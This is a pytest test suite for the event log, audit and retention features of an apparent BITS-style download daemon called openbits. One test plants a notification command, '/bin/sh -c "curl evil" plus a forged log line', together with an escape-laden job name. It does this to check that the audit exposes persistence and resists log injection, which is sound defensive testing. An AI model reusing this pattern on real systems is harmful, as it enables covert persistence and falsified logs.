"""The event log of the real daemon, with real accounts: numbers, who, since, audit, the journal (section 13)."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import tempfile
from collections.abc import Iterator
from typing import Any

import pytest

from openbits.client import calls
from openbits.core.eventlog import message_id
from openbits.service.ledger import EVENTS_BETWEEN_PRUNES
from support.accounts import TestAccount, needs_root, temporary_account
from support.daemon import Daemon, running_daemon, wait_until
from support.nginx import Nginx, running_nginx

pytestmark = needs_root


@pytest.fixture(scope="module")
def origin() -> Iterator[Nginx]:
    """Files to fetch."""
    with running_nginx() as server:
        server.add("large", 3_000_000)
        for number in range(50):
            server.add(f"small{number}", 1000)
        yield server


@pytest.fixture(scope="module")
def alice() -> Iterator[TestAccount]:
    """Somebody."""
    with temporary_account() as account:
        yield account


@pytest.fixture(scope="module")
def mallory() -> Iterator[TestAccount]:
    """Somebody else."""
    with temporary_account() as account:
        yield account


@pytest.fixture(scope="module")
def daemon() -> Iterator[Daemon]:
    """A system service without a journal."""
    with running_daemon(environment={"OPENBITS_JOURNAL_SOCKET": ""}) as started:
        yield started


def events(daemon: Daemon, *arguments: str, account: TestAccount | None = None) -> list[dict[str, Any]]:
    """`bits events --json`."""
    lines = daemon.bits("events", "--json", *arguments, account=account, check=True).stdout.splitlines()
    return [json.loads(line) for line in lines]


def fetched(daemon: Daemon, origin: Nginx, alice: TestAccount, name: str = "large") -> str:
    """A job of alice's that is TRANSFERRED."""
    job = daemon.submit(origin.url(name), "-o", f"{alice.home}/{name}-{os.urandom(4).hex()}", account=alice)
    daemon.wait_state(job, "TRANSFERRED")
    return job


def test_a_job_leaves_its_numbers(daemon: Daemon, origin: Nginx, alice: TestAccount) -> None:
    """3, 1, 59, 60, 4, in that order, with who called and what was fetched."""
    job = fetched(daemon, origin, alice)
    daemon.bits("complete", job, account=alice, check=True)
    told = [event for event in events(daemon, "--job", job, account=alice) if event["event_id"]]
    assert [event["event_id"] for event in told] == [3, 1, 59, 60, 4]
    created, _, started, stopped, completed = (event["fields"] for event in told)
    assert created["user_uid"] == str(alice.uid)
    [asked] = [event for event in events(daemon, "--job", job, account=alice) if event["kind"] == "completing"]
    assert asked["fields"]["user"] == alice.name
    assert created["urls"] == stopped["url"] == started["url"] == origin.url("large")
    assert created["process_name"]
    assert int(created["process_id"]) > 1
    assert stopped["bytes_transferred"] == completed["bytes_transferred"] == "3000000"
    assert completed["result"] == "S_OK"
    assert {event["level"] for event in told} == {"information"}


def test_small_files_share_an_event(daemon: Daemon, origin: Nginx, alice: TestAccount) -> None:
    """Cost: files that become durable together are one event, and none is left out."""
    directory = f"{alice.home}/small"
    os.mkdir(directory)
    os.chown(directory, alice.uid, alice.gid)
    urls = [origin.url(f"small{number}") for number in range(50)]
    job = daemon.submit(*urls, "-d", directory, account=alice)
    daemon.wait_state(job, "TRANSFERRED")
    counts = [int(event["fields"]["files"]) for event in events(daemon, "--job", job, "--id", "60")]
    assert sum(counts) == 50
    assert len(counts) < 50
    daemon.bits("cancel", job, account=alice, check=True)


def test_what_others_do_is_told(daemon: Daemon, origin: Nginx, alice: TestAccount) -> None:
    """16387, 16384 by an administrator; the owner sees them, and nobody else's."""
    job = fetched(daemon, origin, alice)
    daemon.bits("set", job, "description=looked at", check=True)
    daemon.bits("cancel", job, check=True)
    told = {event["event_id"]: event for event in events(daemon, "--job", job, account=alice)}
    assert told[16387]["fields"]["property_name"] == "description"
    assert told[16387]["fields"]["user"] == "root"
    assert told[16384]["fields"]["user_uid"] == "0"
    assert told[5]["fields"]["job_owner"] == told[16384]["fields"]["job_owner"] == alice.name


def test_a1_events_are_the_owners(daemon: Daemon, origin: Nginx, alice: TestAccount, mallory: TestAccount) -> None:
    """A1: another account sees no event, no trace of a job and no audit of it."""
    job = fetched(daemon, origin, alice)
    assert daemon.bits("events", "--job", job, account=mallory).returncode == 4
    assert all(event["job_id"] != job for event in events(daemon, account=mallory))
    assert daemon.bits("events", "--all-users", account=mallory).returncode == 4
    rows = json.loads(daemon.bits("audit", "--json", account=mallory, check=True).stdout)
    assert rows == []
    daemon.bits("cancel", job, account=alice, check=True)


def test_since_until_level_and_newest(daemon: Daemon, origin: Nginx, alice: TestAccount) -> None:
    """The service chooses; ids grow with time."""
    job = fetched(daemon, origin, alice)
    everything = events(daemon, "--job", job, account=alice)
    middle = everything[len(everything) // 2]
    after = events(daemon, "--job", job, "--since", middle["time"], account=alice)
    assert [event["id"] for event in after] == [e["id"] for e in everything if e["time"] >= middle["time"]]
    before = events(daemon, "--job", job, "--until", middle["time"], account=alice)
    assert len(before) + len(after) == len(everything)
    assert events(daemon, "--job", job, "-n", "2", account=alice) == everything[-2:]
    assert events(daemon, "--job", job, "--level", "error", account=alice) == []
    assert [e["event_id"] for e in events(daemon, "--job", job, "--id", "3", "--id", "1", account=alice)] == [3, 1]
    assert events(daemon, "--since", "1h", account=alice)
    for wrong in (("--since", "soon"), ("--level", "loud"), ("--until", "1h", "--follow")):
        assert daemon.bits("events", *wrong, account=alice).returncode == 2
    daemon.bits("cancel", job, account=alice, check=True)


def test_the_audit_shows_what_runs_first(daemon: Daemon, origin: Nginx, alice: TestAccount) -> None:
    """Persistence by notification command is seen at a glance, by administrators, and when the job is gone."""
    quiet = fetched(daemon, origin, alice)
    job = daemon.bits("create", "backup\x1b[31m", account=alice)
    assert job.returncode == 2, "names with control characters are refused"
    job_id = daemon.bits("create", "backup", account=alice, check=True).stdout.strip()
    daemon.bits("add", job_id, origin.url("small0"), f"{alice.home}/loot", account=alice, check=True)
    daemon.bits("notify", job_id, "--", "/bin/sh", "-c", "curl evil\nroot: all is well", account=alice, check=True)
    rows = json.loads(daemon.bits("audit", "--json", check=True).stdout)
    found = {row["job_id"]: row for row in rows}
    assert rows.index(found[job_id]) < rows.index(found[quiet])
    assert found[job_id]["command"][0] == "/bin/sh"
    assert found[job_id]["commands_set"][0]["user"] == alice.name
    assert found[job_id]["urls"] == [origin.url("small0")]
    assert found[quiet]["command"] == []
    shown = daemon.bits("audit", "--user", alice.name, check=True).stdout
    assert f"! {job_id} backup" in shown
    assert "\nroot: all is well" not in shown
    daemon.bits("cancel", job_id, account=alice, check=True)
    gone = json.loads(daemon.bits("audit", "--json", account=alice, check=True).stdout)
    [row] = [row for row in gone if row["job_id"] == job_id]
    assert row["state"] == "CANCELLED"
    assert row["commands_set"]
    daemon.bits("cancel", quiet, account=alice, check=True)


def test_events_outlive_their_job(origin: Nginx, alice: TestAccount, mallory: TestAccount) -> None:
    """A1: of a job that is forgotten the owner still reads what happened; others learn not even that it was."""
    config = "[retention]\nfinal_jobs_s = 0\n"
    with running_daemon(config=config, environment={"OPENBITS_JOURNAL_SOCKET": ""}) as daemon:
        job = daemon.bits("create", "short", account=alice, check=True).stdout.strip()
        daemon.bits("cancel", job, account=alice, check=True)
        wait_until(lambda: daemon.bits("show", job, account=alice).returncode == 3, "the job is forgotten")
        told = events(daemon, "--job", job, account=alice)
        assert [event["event_id"] for event in told if event["event_id"]] == [3, 5]
        assert [event["id"] for event in events(daemon, "--job", job)] == [event["id"] for event in told]
        assert daemon.bits("events", "--job", job, account=mallory).returncode == 3
        [row] = json.loads(daemon.bits("audit", "--json", account=alice, check=True).stdout)
        assert (row["job_id"], row["name"], row["owner_name"]) == (job, "short", alice.name)


def test_a_quota_that_is_hit_is_told_once_a_minute(alice: TestAccount) -> None:
    """16398 about no job, and 16397 at the start: administrators see them, and the account its own."""
    config = "[quotas]\nmax_jobs_per_user = 2\nmax_jobs_per_machine = 1\n"
    with running_daemon(config=config, environment={"OPENBITS_JOURNAL_SOCKET": ""}) as daemon:
        for _ in range(5):
            daemon.bits("create", "one of many", account=alice)
        [hit] = events(daemon, "--id", "16400", account=alice)
        assert hit["job_id"] == ""
        assert hit["fields"]["entity_name"] == "max_jobs_per_machine"
        assert hit["fields"]["current_limit"] == "1"
        assert [event["event_id"] for event in events(daemon, "--id", "16397", "--all-users")] == [16397]
        assert events(daemon, "--id", "16397", account=alice) == []


def test_the_journal_is_told_after_the_commit(origin: Nginx, alice: TestAccount) -> None:
    """One datagram for each event that is in the table, none for others."""
    with (
        tempfile.TemporaryDirectory(prefix="obt-journal-") as directory,
        contextlib.closing(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)) as journal,
    ):
        os.chmod(directory, 0o755)
        path = f"{directory}/socket"
        journal.bind(path)
        os.chmod(path, 0o666)
        journal.settimeout(10)
        with running_daemon(environment={"OPENBITS_JOURNAL_SOCKET": path}) as daemon:
            job = fetched(daemon, origin, alice, "small1")
            written = [event["id"] for event in events(daemon, "--all-users")]
            got = [journal.recv(1 << 20) for _ in written]
            ids = [int(line[11:]) for data in got for line in data.splitlines() if line.startswith(b"BITS_EVENT=")]
            assert ids == written
            made = next(data for data in got if f"MESSAGE_ID={message_id(3)}".encode() in data)
            assert f"BITS_JOB_ID={job}\n".encode() in made
            assert f"BITS_OWNER={alice.uid}\n".encode() in made
            assert f"BITS_OWNER_NAME={alice.name}\n".encode() in made


def test_ended_jobs_stay_in_the_history(daemon: Daemon, origin: Nginx, alice: TestAccount) -> None:
    """`bits list --history`: with when and how they ended; without it they are not listed."""
    job = fetched(daemon, origin, alice, "small2")
    daemon.bits("complete", job, account=alice, check=True)
    shown = daemon.bits("list", "--history", account=alice, check=True).stdout.splitlines()
    assert shown[0].split()[-2:] == ["ENDED", "RESULT"]
    [row] = [line for line in shown if line.startswith(job[:8])]
    assert row.split()[-1] == "S_OK"
    assert ":" in row.split()[-2]
    assert job[:8] not in daemon.bits("list", account=alice, check=True).stdout


def test_retention_by_number_holds_also_at_the_next_start(alice: TestAccount) -> None:
    """`max_events`: the table does not grow for ever, and ids are never given twice."""
    config = "[retention]\nmax_events = 50\n"
    with running_daemon(config=config, environment={"OPENBITS_JOURNAL_SOCKET": ""}) as daemon:
        for _ in range(200):
            daemon.session.perform(calls.create_jobs([calls.job_in("many") for _ in range(10)]))
        kept = events(daemon)
        assert len(kept) <= 50 + EVENTS_BETWEEN_PRUNES
        assert kept[-1]["id"] == 2000
        daemon.stop()
        daemon.start()
        daemon.bits("create", "one more", check=True)
        kept = events(daemon)
        assert kept[-1]["id"] == 2001
        assert len(kept) <= 51
